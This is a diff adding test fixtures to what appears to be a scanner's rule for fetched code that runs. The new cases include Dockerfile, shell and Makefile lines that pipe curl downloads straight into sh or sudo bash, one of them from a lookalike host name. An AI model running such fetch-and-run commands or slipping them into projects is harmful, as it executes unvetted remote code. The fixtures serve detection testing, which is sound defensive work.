@@ -60,6 +60,21 @@ fetch("https://api.example/check").then((answer) => answer.text()).then((text) =
   ],
   misses: [
     {
+      name: "an image that is built with the installer of a tool",
+      why: "What runs while an image is built reaches nothing but the image.",
+      files: {
+        Dockerfile: "FROM node:22-slim\nRUN curl -fsSL https://tools.example/install.sh | sh\n",
+      },
+    },
+    {
+      name: "the installer of a well-known tool",
+      why: "Only the makers of the tool can change what lies at this address.",
+      files: {
+        "setup.sh": "#!/bin/sh\ncurl --proto '=https' -sSf https://sh.rustup.rs | sh\n",
+        Makefile: "setup:\n\tcurl -fsSL https://deb.nodesource.com/setup_22.x | sudo -E bash -\n",
+      },
+    },
+    {
       name: "a request whose answer is shown",
       why: "The answer is data, and nothing of it is run.",
       files: {
@@ -106,6 +121,13 @@ fetch("https://api.example/check").then((answer) => answer.text()).then((text) =
     },
   ],
   evasions: [
+    {
+      name: "the installer of a well-known tool from a host with a longer name",
+      caughtBy: "code/fetched-code-runs",
+      files: {
+        Makefile: "setup:\n\tcurl -sSf https://sh.rustup.rs.example | sh\n",
+      },
+    },
     {
       name: "a PHP page that nothing in the arrival starts",
       caughtBy: "nothing",
